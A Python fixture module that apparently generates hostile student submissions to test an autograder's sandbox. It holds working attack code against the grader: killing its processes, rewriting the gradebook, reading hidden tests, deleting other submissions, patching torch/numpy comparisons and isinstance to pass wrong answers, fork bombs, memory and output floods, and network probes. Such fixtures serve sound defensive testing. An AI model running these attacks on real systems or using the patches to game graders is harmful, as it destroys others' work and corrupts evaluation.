"""A corpus of hostile submissions: one case per attack and per bad input (issue 4).

Every notebook case is the release notebook with the reference solutions filled in and
a cheap RESULTS grid (the grid is the student's choice), with ONE solution cell made
hostile: the attack is appended to (or replaces) that cell's honest code, so whatever
the attack does not destroy should still grade. Raw-file cases (invalid JSON, missing
notebook, a ``torch.py`` beside the notebook, ...) describe the submission folder.

Attack code runs inside the sandboxed worker. Destructive attacks aim only at the
temporary course they are built for (``@@COURSE@@``); attacks that only *read* also
aim at the kit's repository (``@@REPO@@``), where the hidden tests live.

``build(case, folder, course=..., port=...)`` writes one submission folder
(``submitted/<student>/lab06/``). ``case.expect`` says what each part should score
under the bubblewrap sandbox: ``"full"``, ``"lt"`` (strictly less than the part's
points) or ``"le"`` (anything up to the part's points: the attack may hurt its own
author but never help).
"""
from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from pathlib import Path

from answer_styles import loader, model
from corpus import CHEAP_CELLS, CHEAP_DEMO  # the corpus's cheap choices
from labkit.core.assignment import load
from labkit.term.submissions import release_notebook, solution_sources

REPO_ROOT = Path(__file__).resolve().parents[1]
LAB06 = load("lab06", REPO_ROOT)
PARTS = LAB06.part_ids
NOTEBOOK = LAB06.notebook.name
# The corpus's cheap grid and BEST_CONFIG, and its short demonstration cell (the course's source
# gets the same through corpus.cheapen_source, since nbgrader restores locked cells from it).
CHEAP = {**CHEAP_CELLS, **CHEAP_DEMO}

# Printed by attacks that get somewhere; tests look for it in outputs.
BREACH = "LABKIT-BREACH"

# --------------------------------------------------------------------------- honest parts
# Two honest students: the filled reference, and another correct style in two parts.
HONEST: dict[str, dict[str, str]] = {
    "honest_reference": {},
    "honest_other_style": {"model_solution": model.OUTPUT_LAYER, "loader_solution": loader.FROM_NUMPY},
}


def solutions() -> dict[str, str]:
    return solution_sources(LAB06.notebook)


# --------------------------------------------------------------------------- attacks
KILL_PARENT = '''
# --- atak: zabij proces, który mnie ocenia (rodzica), jego grupę procesów i wszystko, co się da
import os as _os, signal as _signal
_cele = (("rodzic", lambda: _os.kill(_os.getppid(), _signal.SIGKILL)),
         ("kill -1", lambda: _os.kill(-1, _signal.SIGKILL)),
         ("grupa rodzica", lambda: _os.killpg(_os.getpgid(_os.getppid()), _signal.SIGKILL)))
for _opis, _zabij in _cele:
    try:
        _zabij()
        print("atak kill", _opis, ": sygnał wysłany, przeżyłem")
    except OSError as _e:
        print("atak kill", _opis, ": odmowa", _e)
'''

GRADEBOOK = '''
# --- atak: znajdź gradebook.db (w górę drzewa i pod ścieżką bezwzględną) i wpisz sobie punkty
import os as _os, sqlite3 as _sqlite3
_kandydaci = []
for _start in (_os.getcwd(), _os.path.dirname(_os.path.abspath(_os.getcwd()))):
    _d = _os.path.abspath(_start)
    while True:
        _kandydaci.append(_os.path.join(_d, "gradebook.db"))
        if _os.path.dirname(_d) == _d:
            break
        _d = _os.path.dirname(_d)
_kandydaci += ["@@COURSE@@/gradebook.db", "/gradebook.db", _os.path.expanduser("~/gradebook.db")]
for _sciezka in _kandydaci:
    if not _os.path.exists(_sciezka):
        continue
    try:
        with _sqlite3.connect(_sciezka, timeout=1) as _db:
            _db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
            _db.execute("UPDATE grade_cells SET max_score = 1000")
        print("@@BREACH@@ gradebook zmieniony:", _sciezka)
    except Exception as _e:
        print("atak gradebook: nie da się zapisać", _sciezka, _e)
    try:
        with open(_sciezka, "r+b") as _f:
            _f.seek(0)
            _f.write(b"to nie jest baza danych")
        print("@@BREACH@@ gradebook nadpisany:", _sciezka)
    except OSError as _e:
        print("atak gradebook: nie da się nadpisać", _sciezka, _e)
print("atak gradebook: sprawdzono", len(_kandydaci), "ścieżek")
'''

READ_HIDDEN = '''
# --- atak: przeczytaj ukryte testy, rozwiązanie wzorcowe i źródło zadania; wypisz je
import glob as _glob, os as _os, sys as _sys
_wzorce = ["@@REPO@@/grader_tests/**/*.py", "@@REPO@@/grader_tests/**/*.toml", "@@REPO@@/reference/**/*.py",
           "@@REPO@@/source/*/*.ipynb", "@@COURSE@@/source/*/*.ipynb", "@@COURSE@@/grader_tests/**/*.py",
           "@@COURSE@@/reference/**/*.py"]
for _w in range(1, 7):
    _gora = _os.path.join(*[".."] * _w)
    _wzorce += [_os.path.join(_gora, "grader_tests", "**", "*.py"), _os.path.join(_gora, "reference", "**", "*.py"),
                _os.path.join(_gora, "source", "*", "*.ipynb")]
for _p in _sys.path:
    _wzorce += [_os.path.join(_p, "grader_tests", "**", "*.py"), _os.path.join(_p, "reference", "**", "*.py")]
_pliki = sorted({_p for _w in _wzorce for _p in _glob.glob(_w, recursive=True)})
for _p in _pliki:
    try:
        with open(_p, encoding="utf-8", errors="replace") as _f:
            print("@@BREACH@@ czytam", _p)
            print(_f.read())
    except OSError as _e:
        print("atak odczyt: odmowa", _p, _e)
for _modul in ("reference", "reference.lab06", "grader_tests", "grader", "test_data", "worker_side"):
    try:
        import importlib as _il, inspect as _inspect
        _m = _il.import_module(_modul)
        print("@@BREACH@@ import", _modul, getattr(_m, "__file__", None))
        print(_inspect.getsource(_m))
    except Exception as _e:
        print("atak import", _modul, ":", type(_e).__name__, _e)
print("atak odczyt: plików znalezionych", len(_pliki))
'''

DELETE_OTHERS = '''
# --- atak: skasuj (albo zepsuj) zgłoszenia innych studentów: ścieżki względne i bezwzględne
import glob as _glob, os as _os, shutil as _shutil
_ofiary = []
for _w in range(1, 8):
    _gora = _os.path.join(*[".."] * _w)
    _ofiary += _glob.glob(_os.path.join(_gora, "submitted", "*", "lab06", "*"))
    _ofiary += _glob.glob(_os.path.join(_gora, "autograded", "*", "lab06", "*"))
_ofiary += _glob.glob("../../submitted/*/lab06/lab06.ipynb")
_ofiary += _glob.glob("@@COURSE@@/submitted/*/lab06/*") + _glob.glob("@@COURSE@@/autograded/*/lab06/*")
_ofiary += _glob.glob("@@COURSE@@/source/lab06/*") + _glob.glob("@@COURSE@@/release/lab06/*")
for _p in sorted(set(_ofiary)):
    try:
        with open(_p, "w") as _f:
            _f.write("{}")
        _os.remove(_p)
        print("@@BREACH@@ skasowano", _p)
    except OSError as _e:
        print("atak kasowanie: odmowa", _p, _e)
for _katalog in ("@@COURSE@@/submitted", "../../submitted"):
    if _os.path.isdir(_katalog):
        _shutil.rmtree(_katalog, ignore_errors=True)
        print("@@BREACH@@" if not _os.path.exists(_katalog) else "atak kasowanie: odmowa", "katalog", _katalog)
print("atak kasowanie: celów", len(set(_ofiary)))
'''

# Monkeypatching: each patch comes with a real mistake in the same part, so the part can
# only keep full marks if the patch fooled the grader.
PATCH_TORCH = '''
# --- atak: porównania w torch/numpy/math zawsze mówią "równe" (a strata powyżej to suma, nie średnia)
import math as _math
torch.allclose = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones_like(np.asarray(a), dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
_math.isclose = lambda *a, **k: True
'''

PATCH_NUMPY = '''
# --- atak: funkcje numpy, którymi ktoś mógłby sprawdzać promienie i kąty, zwracają "dobre" wyniki
_prawdziwy_arctan2 = np.arctan2
np.arctan2 = lambda y, x, *a, **k: np.linspace(-np.pi, np.pi, np.size(y), endpoint=False).reshape(np.shape(y))
np.hypot = lambda x, y, *a, **k: np.where(np.arange(np.size(x)) < np.size(x) // 2, 1.0, 2.0).reshape(np.shape(x))
np.linalg.norm = lambda x, *a, **k: np.where(np.arange(len(x)) < len(x) // 2, 1.0, 2.0)
np.std = lambda *a, **k: 0.2
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
'''

PATCH_ISINSTANCE = '''
# --- atak: builtins.isinstance twierdzi, że wszystko jest nn.Module / torch.Tensor (a sieć nie ma sigmoidy)
import builtins as _builtins
_prawdziwe_isinstance = _builtins.isinstance
_klamane = (nn.Module, torch.Tensor, np.ndarray)


def _isinstance(obj, classinfo):
    klasy = classinfo if _prawdziwe_isinstance(classinfo, tuple) else (classinfo,)
    if any(k in _klamane for k in klasy):
        return True
    return _prawdziwe_isinstance(obj, classinfo)


_builtins.isinstance = _isinstance
_builtins.issubclass = lambda *a, **k: True
'''

HANG_TOP = '''
# --- atak: nieskończona pętla na najwyższym poziomie komórki
while True:
    pass
'''

HANG_IN_FUNCTION = '''\
def dataset_loss(model, X, y, loss_fn):
    """Zawiesza się przy każdym wywołaniu."""
    while True:
        pass
'''

MEMORY_HOG = '''
# --- atak: zjedz całą pamięć (po 128 MiB naraz, strony naprawdę zapisane)
def _zjedz_pamiec():
    zjadacz = []
    while True:
        zjadacz.append(np.ones(2**24))


_zjedz_pamiec()
'''

FORK_BOMB = '''
# --- atak: fork bomb
import os as _os
while True:
    _os.fork()
'''

OUTPUT_FLOOD = '''
# --- atak: zalej wyjście (stdout, stderr, deskryptory 1 i 2, ogromny repr ostatniego wyrażenia)
import os as _os, sys as _sys
for _i in range(200_000):
    print("SPAM" * 100)
_sys.stderr.write("E" * 50_000_000)
for _fd in (1, 2):
    try:
        _os.write(_fd, b"F" * 20_000_000)
    except OSError:
        pass
"X" * 100_000_000
'''

NETWORK = '''
# --- atak: połączenia sieciowe (DNS 1.1.1.1:53, localhost, rozwiązywanie nazw)
import socket as _socket
for _adres in (("1.1.1.1", 53), ("127.0.0.1", @@PORT@@), ("localhost", @@PORT@@)):
    try:
        with _socket.create_connection(_adres, timeout=3) as _s:
            _s.sendall(b"@@BREACH@@ tcp")
        print("@@BREACH@@ połączono z", _adres)
    except OSError as _e:
        print("atak sieć: brak połączenia z", _adres, _e)
try:
    _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    _u.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01",
              ("1.1.1.1", 53))
    _u.settimeout(3)
    print("@@BREACH@@ odpowiedź DNS", _u.recvfrom(512)[0][:20])
except OSError as _e:
    print("atak sieć: UDP", _e)
try:
    print("@@BREACH@@ DNS", _socket.getaddrinfo("example.com", 80)[:1])
except OSError as _e:
    print("atak sieć: DNS", _e)
'''

SYS_EXIT = '''
import sys as _sys
_sys.exit("koniec notatnika")
'''

OS_EXIT = '''
import os as _os
_os._exit(3)
'''

TORCH_SHADOW = '''\
"""Leży obok notatnika: gdyby ktoś zaimportował `torch` z katalogu zgłoszenia, trafiłby tu."""
import os
print("LABKIT-BREACH torch.py ze zgłoszenia został zaimportowany", os.getcwd())
raise SystemExit("torch.py ze zgłoszenia")
'''


# --------------------------------------------------------------------------- the cases
@dataclass(frozen=True)
class HostileCase:
    """One hostile submission; ``cells`` maps grade_id -> new source (filled reference otherwise)."""

    name: str
    kind: str                                   # "attack" | "bad_input"
    note: str
    cells: dict[str, str] = field(default_factory=dict)
    expect: dict[str, str] = field(default_factory=dict)   # part -> full|lt|le (default full)
    transform: str | None = None                # a change to the notebook JSON (see _TRANSFORMS)
    raw: bytes | None = None                    # the notebook file's bytes, as is
    notebook: bool = True                       # False: the folder has no notebook at all
    extra_files: dict[str, bytes] = field(default_factory=dict)
    symlinks: dict[str, str] = field(default_factory=dict)     # name -> target (placeholders ok)
    invalid: bool = False                       # the grader cannot read it: every part scores 0
    gradebook_submission: bool = True           # nbgrader records a submission for it
    fallback: str = ""                          # what happens under LABKIT_SANDBOX=off
    evidence: str = ""                          # text the worker's outputs must contain (the attack ran)

    def expected(self, part: str) -> str:
        if self.invalid:
            return "zero"
        return self.expect.get(part, "full")


def _append(grade_id: str, attack: str) -> dict[str, str]:
    base = CHEAP[grade_id] if grade_id in CHEAP else solutions()[grade_id]
    return {grade_id: base.rstrip("\n") + "\n\n" + attack.lstrip("\n")}


def _mistake(grade_id: str, old: str, new: str) -> str:
    source = solutions()[grade_id]
    if source.count(old) != 1:
        raise ValueError(f"{old!r} occurs {source.count(old)} times in {grade_id}")
    return source.replace(old, new)


def _cases() -> list[HostileCase]:
    best = "experiments_solution_best"
    sum_loss = _mistake("loss_solution_dataset_loss", "return float(loss_fn(proba, y.reshape(-1, 1)))",
                        "return float(loss_fn(proba, y.reshape(-1, 1))) * len(y)")
    half_circle = solutions()["data_solution"].replace("2 * np.pi", "np.pi")
    no_sigmoid = _mistake("model_solution", "layers += [nn.Linear(width, 1), nn.Sigmoid()]",
                          "layers += [nn.Linear(width, 1)]")
    renamed = solutions()["loss_solution"].replace("def predict(", "def przewiduj(").replace(
        "y_pred = predict(", "y_pred = przewiduj(")
    syntax = _mistake("loss_solution_dataset_loss", "def dataset_loss(model, X, y, loss_fn):",
                      "def dataset_loss(model, X, y, loss_fn)")
    return [
        # ---- attacks
        HostileCase("kill_parent", "attack",
                    "os.kill(os.getppid(), SIGKILL), kill(-1, SIGKILL) and "
                    "os.killpg(os.getpgid(os.getppid()), SIGKILL) from a solution cell",
                    _append(best, KILL_PARENT), evidence="atak kill grupa rodzica",
                    fallback="kills the trusted pytest grader (every part 0), or its process group with "
                             "nbgrader in it; kill -1 as root kills every process on the host"),
        HostileCase("gradebook_rewrite", "attack",
                    "search gradebook.db upward from cwd and at absolute paths; UPDATE scores, overwrite",
                    _append("data_solution", GRADEBOOK), evidence="atak gradebook: sprawdzono",
                    fallback="the absolute path is writable: the gradebook is corrupted"),
        HostileCase("read_hidden_tests", "attack",
                    "read grader_tests/, reference/, source/ (absolute, ../.., sys.path, import) "
                    "and print them into the cell's output",
                    _append("loader_solution", READ_HIDDEN), evidence="atak odczyt: plików znalezionych 0",
                    fallback="reads and prints everything (and `import reference` works)"),
        HostileCase("delete_other_submissions", "attack",
                    "delete other students' notebooks: ../../submitted/... and absolute paths",
                    _append("model_solution", DELETE_OTHERS), evidence="atak kasowanie: celów 0",
                    fallback="absolute paths are writable: other submissions are destroyed"),
        HostileCase("patch_torch_allclose", "attack",
                    "torch.allclose/isclose/equal, numpy.allclose, math.isclose always True; "
                    "dataset_loss returns the sum instead of the mean",
                    {"loss_solution_dataset_loss": sum_loss.rstrip("\n") + "\n\n" + PATCH_TORCH.lstrip("\n")},
                    expect={"loss": "lt"}, evidence="tamper:torch.allclose"),
        HostileCase("patch_numpy", "attack",
                    "numpy.arctan2/hypot/linalg.norm/std/allclose faked; make_rings draws half circles",
                    {"data_solution": half_circle.rstrip("\n") + "\n\n" + PATCH_NUMPY.lstrip("\n")},
                    expect={"data": "lt"}, evidence="tamper:numpy.allclose"),
        HostileCase("patch_isinstance", "attack",
                    "builtins.isinstance says everything is a Module/Tensor/ndarray, issubclass always "
                    "True; the model lacks its Sigmoid",
                    {"model_solution": no_sigmoid.rstrip("\n") + "\n\n" + PATCH_ISINSTANCE.lstrip("\n")},
                    expect={"model": "lt", **{p: "le" for p in PARTS if p != "model"}},
                    evidence="tamper:builtins.isinstance"),
        HostileCase("hang_top_level", "attack", "while True: pass at the top level of a cell",
                    _append(best, HANG_TOP), expect={"experiments": "lt"}, evidence="status:timeout"),
        HostileCase("hang_in_function", "attack",
                    "dataset_loss loops forever (also hangs the demo cell that calls it)",
                    {"loss_solution_dataset_loss": HANG_IN_FUNCTION}, expect={"loss": "lt"},
                    evidence="status:timeout"),
        HostileCase("memory_hog", "attack", "allocate 128 MiB arrays until memory runs out",
                    _append(best, MEMORY_HOG), evidence="MemoryError",
                    fallback="contained by RLIMIT_AS as well"),
        HostileCase("fork_bomb", "attack", "while True: os.fork()",
                    _append(best, FORK_BOMB), evidence="BlockingIOError",
                    fallback="contained by the pids cgroup when the grader can create one (root, "
                             "cgroup v1 pids or delegated v2), else by RLIMIT_NPROC, which does not "
                             "apply to root"),
        HostileCase("output_flood", "attack",
                    "80 MB of print(), 50 MB on stderr, 40 MB on fds 1-2, a 100 MB repr",
                    _append(best, OUTPUT_FLOOD), evidence="pominięto", fallback="contained the same way"),
        HostileCase("network", "attack",
                    "TCP to 1.1.1.1:53 and to a listener on the grader's localhost, UDP DNS query, "
                    "getaddrinfo",
                    _append("data_solution", NETWORK), evidence="atak sieć: DNS", fallback="network is open"),
        # ---- bad inputs
        HostileCase("invalid_json", "bad_input", "the notebook file is not JSON",
                    raw=b'{"cells": [{"cell_type": "code", "source": "print(1)"\n', invalid=True),
        HostileCase("nbformat_3", "bad_input", "the filled notebook declares nbformat 3",
                    transform="nbformat3", invalid=True),
        HostileCase("deleted_grade_cells", "bad_input",
                    "every autograder-tests cell deleted (nbgrader puts them back)",
                    transform="delete_test_cells"),
        HostileCase("duplicated_grade_cells", "bad_input",
                    "the model tests cell and the data solution cell appear twice",
                    transform="duplicate_cells"),
        HostileCase("renamed_function", "bad_input", "predict renamed to przewiduj",
                    {"loss_solution": renamed}, expect={"loss": "lt"}),
        HostileCase("syntax_error", "bad_input", "a missing colon in the dataset_loss cell",
                    {"loss_solution_dataset_loss": syntax}, expect={"loss": "lt"}, evidence="SyntaxError"),
        HostileCase("sys_exit", "bad_input", "sys.exit() at the end of a solution cell",
                    _append(best, SYS_EXIT), evidence="SystemExit"),
        HostileCase("os_exit", "bad_input", "os._exit(3) at the end of a solution cell",
                    _append(best, OS_EXIT), expect={"experiments": "lt"}, evidence="status:crashed"),
        HostileCase("torch_py_beside_notebook", "bad_input",
                    "a torch.py (and numpy.py) in the submission folder that would shadow imports",
                    extra_files={"torch.py": TORCH_SHADOW.encode(), "numpy.py": TORCH_SHADOW.encode()}),
        HostileCase("extra_files", "bad_input",
                    "extra files, a subfolder, a 2 MB blob, another notebook, and symlinks to a hidden "
                    "test and to another student's notebook",
                    extra_files={"notatki.txt": "moje notatki\n".encode(), "dane/wyniki.csv": b"a,b\n1,2\n",
                                 "dane/duzy.bin": os.urandom(2 * 1024 * 1024),
                                 "inny.ipynb": b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'},
                    symlinks={"ukryty_test.py": "@@REPO@@/grader_tests/lab06/test_data.py",
                              "cudzy.ipynb": "@@COURSE@@/submitted/honest_reference/lab06/lab06.ipynb"}),
        HostileCase("missing_notebook", "bad_input", "the submission folder has no notebook",
                    notebook=False, extra_files={"notatki.txt": "zapomniałem notatnika\n".encode()},
                    invalid=True, gradebook_submission=False),
    ]


CASES: list[HostileCase] = _cases()
BY_NAME: dict[str, HostileCase] = {case.name: case for case in CASES}


# --------------------------------------------------------------------------- building
def fill(text: str, *, course: Path, port: int) -> str:
    return (text.replace("@@COURSE@@", str(course)).replace("@@REPO@@", str(REPO_ROOT))
            .replace("@@PORT@@", str(int(port))).replace("@@BREACH@@", BREACH))


def _delete_test_cells(nb: dict) -> dict:
    nb["cells"] = [c for c in nb["cells"]
                   if not str(c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")).endswith("_tests")]
    return nb


def _duplicate_cells(nb: dict) -> dict:
    out = []
    for cell in nb["cells"]:
        out.append(cell)
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") in ("model_tests", "data_solution"):
            out.append(json.loads(json.dumps(cell)))
    nb["cells"] = out
    return nb


def _nbformat3(nb: dict) -> dict:
    nb["nbformat"], nb["nbformat_minor"] = 3, 0
    return nb


_TRANSFORMS = {"delete_test_cells": _delete_test_cells, "duplicate_cells": _duplicate_cells,
               "nbformat3": _nbformat3}


def build_notebook(dest: Path, replacements: dict[str, str], *, course: Path, port: int,
                   transform: str | None = None) -> Path:
    """The filled reference with the corpus's cheap choices and ``replacements`` (placeholders filled)."""
    from labkit.term.submissions import build_submission
    cells = dict(CHEAP)
    cells.update({k: fill(v, course=course, port=port) for k, v in replacements.items()})
    path = build_submission(Path(dest), cells, filled=True, release=release_notebook(REPO_ROOT, LAB06.id),
                            source=LAB06.notebook)
    if transform:
        nb = _TRANSFORMS[transform](json.loads(path.read_text(encoding="utf-8")))
        path.write_text(json.dumps(nb, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    return path


def build(case: HostileCase, folder: Path, *, course: Path, port: int = 9) -> Path:
    """Write the submission folder for ``case`` (``folder`` is submitted/<student>/lab06)."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    if case.notebook:
        if case.raw is not None:
            (folder / NOTEBOOK).write_bytes(case.raw)
        else:
            build_notebook(folder / NOTEBOOK, case.cells, course=course, port=port, transform=case.transform)
    for name, data in case.extra_files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    for name, target in case.symlinks.items():
        os.symlink(fill(target, course=course, port=port), folder / name)
    return folder


def build_honest(name: str, folder: Path, *, course: Path, port: int = 9) -> Path:
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    build_notebook(folder / NOTEBOOK, HONEST[name], course=course, port=port)
    return folder


def hidden_markers(min_length: int = 30) -> list[str]:
    """Lines of the hidden tests and of reference/ that the release notebook does not contain.

    If one of them shows up in a student's feedback or autograded outputs, hidden
    material leaked (the notebook's own code is not evidence: it shares lines with reference/).
    """
    release = release_notebook(REPO_ROOT, LAB06.id).read_text(encoding="utf-8")
    source = LAB06.notebook.read_text(encoding="utf-8")
    markers = set()
    for folder in (LAB06.checks, LAB06.reference):
        for path in sorted(folder.rglob("*.py")):
            for line in path.read_text(encoding="utf-8").splitlines():
                line = line.strip()
                if (len(line) >= min_length and line not in release and json.dumps(line)[1:-1] not in source
                        and line not in source and not line.startswith(("#", "import ", "from "))):
                    markers.add(line)
    return sorted(markers)
